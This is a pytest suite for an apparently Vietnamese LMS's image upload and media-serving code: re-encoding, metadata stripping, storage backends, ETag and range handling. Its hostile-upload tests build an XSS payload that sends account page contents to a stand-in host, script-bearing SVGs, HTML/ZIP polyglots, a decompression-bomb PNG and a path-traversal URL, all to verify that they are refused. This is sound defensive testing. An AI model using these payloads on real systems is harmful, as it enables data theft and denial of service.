"""Uploaded media: images re-encoded safe and small, both storage backends, served over HTTP
with ETag and byte ranges; hostile uploads refused with nothing stored.

Every test runs with the database backend and with a shared folder (LMS_MEDIA_DIR)."""

import io
import os
import secrets
import shutil
import struct
import subprocess
import unicodedata
import zipfile
import zlib
from dataclasses import replace
from pathlib import Path

import pytest
from PIL import Image
from sqlalchemy import func, select

from lms import media
from lms.errors import ServiceError
from lms.media import DatabaseMediaStore, FolderMediaStore, MediaFile, media_store, store_image

FILE = shutil.which("file")
needs_file = pytest.mark.skipif(FILE is None and os.environ.get("CI") != "true", reason="file(1) missing")


@pytest.fixture(params=["database", "folder"])
def settings(request, make_settings, tmp_path):
    if request.param == "folder":
        folder = tmp_path / "shared-media"
        folder.mkdir()
        return make_settings(media_dir=str(folder))
    return make_settings()


@pytest.fixture
def ctx(app):
    return app.state.context


# --- Test images ---------------------------------------------------------------------------


def jpeg(image: Image.Image, **options) -> bytes:
    out = io.BytesIO()
    image.save(out, "JPEG", **{"quality": 90, **options})
    return out.getvalue()


def png(image: Image.Image, **options) -> bytes:
    out = io.BytesIO()
    image.save(out, "PNG", **options)
    return out.getvalue()


def photo(width: int, height: int, grain: int = 4) -> Image.Image:
    """Gradients under coarse noise: at 800 px it still has the detail of a photograph,
    which WebP at its first quality cannot fit in 150 KB."""
    base = Image.merge("RGB", (
        Image.linear_gradient("L").resize((width, height)),
        Image.radial_gradient("L").resize((width, height)),
        Image.linear_gradient("L").rotate(90).resize((width, height)),
    ))
    small = (width // grain, height // grain)
    noise = Image.merge("RGB", [Image.effect_noise(small, 60) for _ in range(3)])
    return Image.blend(base, noise.resize((width, height), Image.Resampling.BICUBIC), 0.5)


def served(client, url: str, **headers):
    return client.get(url, headers=headers)


def stored_rows(engine) -> int:
    from sqlmodel import Session

    with Session(engine) as db:
        return db.execute(select(func.count()).select_from(MediaFile)).scalar_one()


def folder_files(settings) -> list[Path]:
    if not settings.media_dir:
        return []
    return [p for p in Path(settings.media_dir).rglob("*") if p.is_file()]


def file_says(data: bytes, tmp_path: Path) -> str:
    """What file(1), libmagic, makes of some bytes: an opinion independent of Pillow."""
    path = tmp_path / f"probe-{secrets.token_hex(4)}"
    path.write_bytes(data)
    return subprocess.run([FILE or "file", "-b", str(path)], capture_output=True, text=True,
                          check=True).stdout.strip()


def webp_chunks(data: bytes) -> list[bytes]:
    assert data[:4] == b"RIFF" and data[8:12] == b"WEBP"
    chunks, offset = [], 12
    while offset + 8 <= len(data):
        fourcc, size = data[offset:offset + 4], struct.unpack("<I", data[offset + 4:offset + 8])[0]
        chunks.append(fourcc)
        offset += 8 + size + (size & 1)
    return chunks


# --- Images: sizes, widths, metadata -------------------------------------------------------


@needs_file
def test_a_photo_becomes_three_small_webp_widths_served_immutable(client, ctx, settings, tmp_path):
    original = photo(3200, 2400)
    data = jpeg(original)
    assert 1_000_000 < len(data) < settings.media_max_upload_bytes
    # The test image is hard enough that the first quality step does not fit the budget.
    first_try = io.BytesIO()
    original.resize((800, 600), Image.Resampling.LANCZOS).save(first_try, "WEBP", quality=media.QUALITY_STEPS[0])
    assert len(first_try.getvalue()) > 150_000

    image = store_image(ctx, data, alt="Ảnh chụp buổi học ở nhà văn hóa thôn")

    assert [(v.width, v.height) for v in image.variants] == [(400, 300), (800, 600), (1200, 900)]
    for variant in image.variants:
        assert variant.url == f"/media/{variant.key}.webp"
        response = served(client, variant.url)
        assert response.status_code == 200
        assert response.headers["content-type"] == "image/webp"
        assert response.headers["cache-control"] == "public, max-age=31536000, immutable"
        assert response.headers["etag"] == f'"{variant.key}"'
        assert response.headers["accept-ranges"] == "bytes"
        assert response.headers["x-content-type-options"] == "nosniff"
        assert "sandbox" in response.headers["content-security-policy"]
        assert "content-encoding" not in response.headers
        body = response.content
        assert media.content_key(body) == variant.key  # the name is the content's hash
        assert f"{variant.width}x{variant.height}" in file_says(body, tmp_path)
        assert Image.open(io.BytesIO(body)).size == (variant.width, variant.height)
        if variant.width == 800:
            assert len(body) <= 150_000
    assert image.default.width == 800
    assert image.srcset == ", ".join(f"{v.url} {v.width}w" for v in image.variants)


def test_the_img_tag_carries_size_srcset_and_escaped_alt(ctx):
    image = store_image(ctx, jpeg(photo(1000, 500)), alt='Biển "Cấm" <b>đỗ xe</b>')
    tag = str(image.tag())
    default = image.default
    assert f'src="{default.url}"' in tag
    assert f'width="{default.width}" height="{default.height}"' in tag
    assert f'srcset="{image.srcset}"' in tag
    assert 'alt="Biển &#34;Cấm&#34; &lt;b&gt;đỗ xe&lt;/b&gt;"' in tag
    assert "<b>" not in tag


@pytest.mark.parametrize(("size", "widths"), [
    ((300, 200), [(300, 200)]),
    ((500, 300), [(400, 240), (500, 300)]),
    ((1000, 750), [(400, 300), (800, 600), (1000, 750)]),
    ((800, 200), [(400, 100), (800, 200)]),
    ((2400, 600), [(400, 100), (800, 200), (1200, 300)]),
])
def test_never_upscaled(client, ctx, size, widths):
    image = store_image(ctx, png(photo(*size)), alt="Sơ đồ")
    assert [(v.width, v.height) for v in image.variants] == widths
    for variant in image.variants:
        assert Image.open(io.BytesIO(served(client, variant.url).content)).size == (variant.width, variant.height)


@needs_file
def test_exif_and_gps_are_stripped_and_orientation_applied(client, ctx, tmp_path):
    # Stored sideways: left half red, right half blue; EXIF says "rotate 90° clockwise".
    sideways = Image.new("RGB", (1600, 1200), (220, 20, 20))
    sideways.paste((20, 20, 220), (800, 0, 1600, 1200))
    exif = Image.Exif()
    exif[0x0112] = 6
    exif[0x010F] = "HocvusoCam"
    exif[0x010E] = "nha-rieng-cua-ba-Lan"
    gps = exif.get_ifd(0x8825)
    gps.update({1: "N", 2: (21.0, 1.0, 30.5), 3: "E", 4: (105.0, 51.0, 12.25)})
    data = jpeg(sideways, exif=exif)
    says = file_says(data, tmp_path)
    assert "GPS-Data" in says and "HocvusoCam" in says  # the upload really carries them

    image = store_image(ctx, data, alt="Ảnh có toạ độ")

    # Upright: 1200 × 1600, red on top.
    assert [(v.width, v.height) for v in image.variants] == [(400, 533), (800, 1067), (1200, 1600)]
    gps_bytes = struct.pack(">II", 21, 1)
    for variant in image.variants:
        body = served(client, variant.url).content
        assert webp_chunks(body) == [b"VP8 "]  # no EXIF, XMP or ICCP chunk
        for trace in (b"Exif", b"EXIF", b"HocvusoCam", b"nha-rieng", gps_bytes):
            assert trace not in body
        assert "VP8 encoding" in file_says(body, tmp_path)
        decoded = Image.open(io.BytesIO(body))
        assert not decoded.getexif()
        top = decoded.getpixel((variant.width // 2, variant.height // 10))
        bottom = decoded.getpixel((variant.width // 2, variant.height * 9 // 10))
        assert top[0] > 150 and top[2] < 90, top
        assert bottom[2] > 150 and bottom[0] < 90, bottom


def test_transparency_is_kept(client, ctx):
    sign = Image.new("RGBA", (600, 600), (0, 0, 0, 0))
    sign.paste((200, 0, 0, 255), (100, 100, 500, 500))
    image = store_image(ctx, png(sign), alt="Biển báo")
    decoded = Image.open(io.BytesIO(served(client, image.variants[-1].url).content))
    assert decoded.mode == "RGBA"
    assert decoded.getpixel((5, 5))[3] == 0
    assert decoded.getpixel((300, 300))[3] == 255


@needs_file
def test_jpeg_when_webp_is_unavailable(client, ctx, monkeypatch, tmp_path):
    monkeypatch.setattr(media, "webp_available", lambda: False)
    image = store_image(ctx, jpeg(photo(3200, 2400)), alt="Ảnh")
    for variant in image.variants:
        assert variant.url.endswith(".jpg")
        response = served(client, variant.url)
        assert response.headers["content-type"] == "image/jpeg"
        says = file_says(response.content, tmp_path)
        assert says.startswith("JPEG image data") and "Exif" not in says
        assert f"{variant.width}x{variant.height}" in says
        if variant.width == 800:
            assert len(response.content) <= 150_000


def test_the_same_image_twice_is_stored_once(ctx, engine, settings):
    data = jpeg(photo(1300, 900))
    first = store_image(ctx, data, alt="Một")
    second = store_image(ctx, data, alt="Hai")
    assert [v.key for v in first.variants] == [v.key for v in second.variants]
    assert second.alt == "Hai"
    assert stored_rows(engine) == 3
    assert len(folder_files(settings)) == (3 if settings.media_dir else 0)


def test_every_width_is_found_again_from_one_url(ctx, db):
    image = store_image(ctx, jpeg(photo(1600, 1200)), alt="Ảnh")
    middle = image.variants[1]
    key = media.key_from_url(f"https://xa.example.vn{middle.url}")
    assert key == middle.key
    again = media.load_image(db, key, alt="Ảnh")
    assert again == image
    assert media.StoredImage.from_dict(image.to_dict()) == image
    assert media.key_from_url(middle.url.replace(".webp", ".exe")) is None
    assert media.load_image(db, "0" * 64, alt="x") is None


def test_alt_text_is_required_and_kept_in_nfc(ctx, engine):
    data = png(photo(300, 200))
    for alt in ("", "   \n", None):
        with pytest.raises(ServiceError) as refused:
            store_image(ctx, data, alt=alt)
        assert refused.value.code == "media_alt_missing"
        assert "mô tả ảnh" in refused.value.message
    assert stored_rows(engine) == 0
    with pytest.raises(ServiceError) as refused:
        store_image(ctx, data, alt="x" * 301)
    assert refused.value.code == "media_alt_too_long"
    decomposed = unicodedata.normalize("NFD", "Cánh đồng lúa")
    assert decomposed != "Cánh đồng lúa"
    image = store_image(ctx, data, alt=f"  {decomposed}\n ")
    assert image.alt == "Cánh đồng lúa"


# --- Where the bytes live ------------------------------------------------------------------


def test_bytes_live_where_the_backend_says(ctx, engine, settings):
    image = store_image(ctx, png(photo(900, 600)), alt="Ảnh")
    from sqlmodel import Session

    with Session(engine) as db:
        rows = db.execute(select(MediaFile.key, MediaFile.data.is_(None), MediaFile.image_key)).all()
    assert {key for key, _, _ in rows} == {v.key for v in image.variants}
    assert {image_key for _, _, image_key in rows} == {image.key}
    if settings.media_dir:
        assert isinstance(media_store(settings), FolderMediaStore)
        assert all(in_folder for _, in_folder, _ in rows)
        for variant in image.variants:
            path = Path(settings.media_dir) / variant.key[:2] / variant.key[2:4] / variant.key
            assert media.content_key(path.read_bytes()) == variant.key
        assert not [p for p in folder_files(settings) if p.name.endswith(".tmp")]
    else:
        assert isinstance(media_store(settings), DatabaseMediaStore)
        assert not any(in_folder for _, in_folder, _ in rows)


def test_files_in_the_database_stay_served_after_moving_to_a_folder(client, ctx):
    audio = secrets.token_bytes(5000)
    with ctx.transaction() as db:
        key = DatabaseMediaStore().put(db, audio, "audio/mpeg")
    assert served(client, f"/media/{key}.mp3").content == audio


def test_a_folder_that_is_not_mounted_is_never_created(ctx, tmp_path):
    store = FolderMediaStore(tmp_path / "not-mounted")
    with pytest.raises(RuntimeError), ctx.transaction() as db:
        store.put(db, b"abc", "audio/mpeg")
    assert not (tmp_path / "not-mounted").exists()


def test_a_missing_folder_file_is_404(client, ctx, tmp_path):
    # A row whose file is not in the folder (a host without the mount, a lost disk).
    folder = tmp_path / "other-mount"
    folder.mkdir()
    store = FolderMediaStore(folder)
    with ctx.transaction() as db:
        key = store.put(db, b"x" * 1000, "audio/ogg")
    store.path(key).unlink()
    assert served(client, f"/media/{key}.ogg").status_code == 404


def test_only_passive_content_types_are_stored(ctx):
    with pytest.raises(ValueError), ctx.transaction() as db:
        media_store(ctx.settings).put(db, b"<p>hi</p>", "text/html")


# --- Serving: ranges, ETag ----------------------------------------------------------------


@pytest.fixture
def audio(ctx):
    """300 KB of 'lesson audio' (any bytes: the store does not look inside)."""
    data = secrets.token_bytes(300_000)
    with ctx.transaction() as db:
        key = media_store(ctx.settings).put(db, data, "audio/mpeg")
    return data, f"/media/{key}.mp3", f'"{key}"'


def test_whole_file(client, audio):
    data, url, etag = audio
    response = served(client, url)
    assert response.status_code == 200
    assert response.content == data
    assert response.headers["content-length"] == str(len(data))
    assert response.headers["content-type"] == "audio/mpeg"
    assert response.headers["etag"] == etag


@pytest.mark.parametrize(("header", "start", "stop"), [
    ("bytes=0-99", 0, 100),
    ("bytes=100-", 100, 300_000),
    ("bytes=-500", 299_500, 300_000),
    ("bytes=299999-299999", 299_999, 300_000),
    ("bytes=250000-999999999", 250_000, 300_000),  # past the end: clipped
    ("bytes=-999999999", 0, 300_000),
    ("bytes=0-", 0, 300_000),  # what phones send first for audio
])
def test_single_ranges(client, audio, header, start, stop):
    data, url, etag = audio
    response = served(client, url, Range=header)
    assert response.status_code == 206
    assert response.headers["content-range"] == f"bytes {start}-{stop - 1}/300000"
    assert response.headers["content-length"] == str(stop - start)
    assert response.headers["etag"] == etag
    assert response.content == data[start:stop]


@pytest.mark.parametrize("header", ["bytes=300000-", "bytes=300000-300010", "bytes=-0"])
def test_unsatisfiable_ranges(client, audio, header):
    _, url, _ = audio
    response = served(client, url, Range=header)
    assert response.status_code == 416
    assert response.headers["content-range"] == "bytes */300000"
    assert response.content == b""


@pytest.mark.parametrize("header", ["bytes=10-5", "items=0-10", "bytes=0-10,20-30", "bytes=abc", "bytes=-"])
def test_ranges_not_taken_give_the_whole_file(client, audio, header):
    data, url, _ = audio
    response = served(client, url, Range=header)
    assert response.status_code == 200
    assert response.content == data


def test_if_range(client, audio):
    data, url, etag = audio
    assert served(client, url, Range="bytes=0-9", **{"If-Range": etag}).status_code == 206
    other = served(client, url, Range="bytes=0-9", **{"If-Range": '"something-else"'})
    assert other.status_code == 200 and other.content == data


@pytest.mark.parametrize("header", ["{etag}", "W/{etag}", '"other", {etag}', "*"])
def test_not_modified(client, audio, header):
    _, url, etag = audio
    response = served(client, url, **{"If-None-Match": header.format(etag=etag)})
    assert response.status_code == 304
    assert response.content == b""
    assert response.headers["etag"] == etag
    assert response.headers["cache-control"] == "public, max-age=31536000, immutable"


def test_a_changed_etag_gets_the_file(client, audio):
    data, url, _ = audio
    response = served(client, url, **{"If-None-Match": '"0000"'})
    assert response.status_code == 200 and response.content == data


def test_head(client, audio):
    _, url, etag = audio
    response = client.head(url)
    assert response.status_code == 200
    assert response.headers["content-length"] == "300000"
    assert response.headers["etag"] == etag
    assert response.content == b""
    ranged = client.head(url, headers={"Range": "bytes=10-19"})
    assert ranged.status_code == 206 and ranged.headers["content-range"] == "bytes 10-19/300000"


def test_unknown_and_malformed_names_get_the_same_404(client, audio):
    _, url, _ = audio
    key = url.removeprefix("/media/").removesuffix(".mp3")
    answers = [served(client, path) for path in (
        f"/media/{'a' * 64}.mp3",  # no such file
        f"/media/{key}.webp",  # a real key with another type's extension
        f"/media/{key.upper()}.mp3",
        f"/media/{key[:-1]}.mp3",
        f"/media/{key}",
        "/media/..%2f..%2fetc%2fpasswd",
        f"/media/{key}.mp3.html",
    )]
    assert {a.status_code for a in answers} == {404}
    # Alike but for the id of each request (its header, and on the page for staff to read).
    assert len({a.text.replace(a.headers["x-request-id"], "…") for a in answers}) == 1
    assert all("etag" not in a.headers and "immutable" not in a.headers.get("cache-control", "")
               for a in answers)


def test_media_route_is_public(client, audio, app):
    from lms.security import PUBLIC, app_routes, route_policy

    routes = [r for r in app_routes(app) if r.path == "/media/{name}"]
    assert routes and all(route_policy(r) == PUBLIC for r in routes)
    assert served(client, audio[1]).status_code == 200  # anonymous


# --- Hostile uploads -----------------------------------------------------------------------

SCRIPT = b"<script>fetch('/account').then(r=>r.text()).then(t=>new Image().src='//x.example/?'+t)</script>"


def svg_with_script() -> bytes:
    return (b'<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" '
            b'width="10" height="10" onload="alert(1)">' + SCRIPT + b'<rect width="10" height="10"/></svg>')


def gif_html_polyglot() -> bytes:
    out = io.BytesIO()
    Image.new("P", (40, 40), 3).save(out, "GIF", comment=b"<html><body>" + SCRIPT + b"</body></html>")
    return out.getvalue()


def png_zip_polyglot() -> bytes:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("payload.bin", b"not markup, but an archive all the same" * 10)
    return png(photo(300, 200)) + archive.getvalue()


def jpeg_with_trailing_html() -> bytes:
    return jpeg(photo(400, 300)) + b"<!DOCTYPE html><html><body onload=alert(1)>" + SCRIPT


def real_bomb(width: int = 9000, height: int = 9000) -> bytes:
    """A complete, valid 1-bit PNG of 81 million pixels in a few kilobytes, built row by row."""
    compressor = zlib.compressobj(9)
    row = b"\x00" + b"\x00" * ((width + 7) // 8)
    body = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    return _png(width, height, bit_depth=1, idat=body)


def _png(width: int, height: int, *, bit_depth: int, idat: bytes) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, bit_depth, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


def header_bomb() -> bytes:
    # Claims 10^10 pixels: refused on the header, before any decoding.
    return _png(100_000, 100_000, bit_depth=8, idat=zlib.compress(b"\x00" * 1000))


NOT_IMAGE = ("media_not_image", "không phải là ảnh")
HOSTILE = {
    "svg with script": (svg_with_script, "media_svg", "SVG"),
    "svg with a bom and blank lines": (lambda: b"\xef\xbb\xbf\n\n  " + svg_with_script(), "media_svg", "SVG"),
    "gif/html polyglot": (gif_html_polyglot, "media_active_content", "có chứa mã"),
    "png+zip polyglot": (png_zip_polyglot, "media_active_content", "ghép kèm"),
    "jpeg with trailing html": (jpeg_with_trailing_html, "media_active_content", "có chứa mã"),
    "decompression bomb": (real_bomb, "media_too_many_pixels", "quá lớn"),
    "header bomb": (header_bomb, "media_too_many_pixels", "quá lớn"),
    "truncated jpeg": (lambda: jpeg(photo(800, 600))[:30_000], "media_damaged", "bị hỏng"),
    "truncated png": (lambda: png(photo(300, 200))[:5000], "media_damaged", "bị hỏng"),
    "pdf named .jpg": (lambda: b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n", *NOT_IMAGE),
    "text named .png": (lambda: "Xin chào bà con".encode() * 20, *NOT_IMAGE),
    "random bytes": (lambda: secrets.token_bytes(4000), *NOT_IMAGE),
    "heic from an iphone": (lambda: b"\x00\x00\x00\x18ftypheic" + secrets.token_bytes(2000), "media_heic", "HEIC"),
    "empty file": (lambda: b"", "media_empty", "Chưa có tệp"),
}


@pytest.mark.parametrize("case", list(HOSTILE), ids=lambda c: c.replace(" ", "-"))
def test_hostile_uploads_are_refused_and_nothing_is_stored(ctx, engine, settings, case):
    make, code, words = HOSTILE[case]
    with pytest.raises(ServiceError) as refused:
        store_image(ctx, make(), alt="Ảnh")
    assert refused.value.code == code
    assert refused.value.status == 422
    assert words in refused.value.message
    assert refused.value.message == media.nfc(refused.value.message)
    assert stored_rows(engine) == 0
    assert folder_files(settings) == []


@needs_file
def test_the_bomb_is_a_real_image(tmp_path):
    # So the refusal above is the pixel limit's doing, not a broken file's.
    assert "PNG image data, 9000 x 9000, 1-bit grayscale" in file_says(real_bomb(), tmp_path)
    assert len(real_bomb()) < 50_000


def test_over_the_upload_cap(ctx, engine, settings):
    data = jpeg(photo(1200, 900))
    small_cap = replace(ctx, settings=settings.model_copy(update={"media_max_upload_bytes": len(data) - 1}))
    with pytest.raises(ServiceError) as refused:
        store_image(small_cap, data, alt="Ảnh")
    assert refused.value.code == "media_too_large" and refused.value.status == 413
    assert "Tệp quá lớn" in refused.value.message
    assert stored_rows(engine) == 0 and folder_files(settings) == []
    exactly = replace(ctx, settings=settings.model_copy(update={"media_max_upload_bytes": len(data)}))
    assert store_image(exactly, data, alt="Ảnh").variants


def test_the_default_cap_is_ten_megabytes(make_settings):
    assert make_settings().media_max_upload_bytes == 10_000_000
    assert "10 MB" in media.MEDIA_ERRORS["media_too_large"].format(limit=media._megabytes(10_000_000))


def test_anything_appended_to_an_image_is_gone_from_what_is_served(client, ctx, engine):
    # A "motion photo" or any other trailer no marker catches: accepted, and dropped.
    marker = secrets.token_hex(16).encode()
    original = jpeg(photo(1400, 1000))
    data = original + b"\x00\x00MotionPhoto_Data" + marker * 50
    image = store_image(ctx, data, alt="Ảnh")
    from sqlmodel import Session

    with Session(engine) as db:
        keys = set(db.execute(select(MediaFile.key)).scalars())
    assert keys == {v.key for v in image.variants}
    assert media.content_key(data) not in keys and media.content_key(original) not in keys
    for variant in image.variants:
        body = served(client, variant.url).content
        assert marker not in body and b"MotionPhoto" not in body
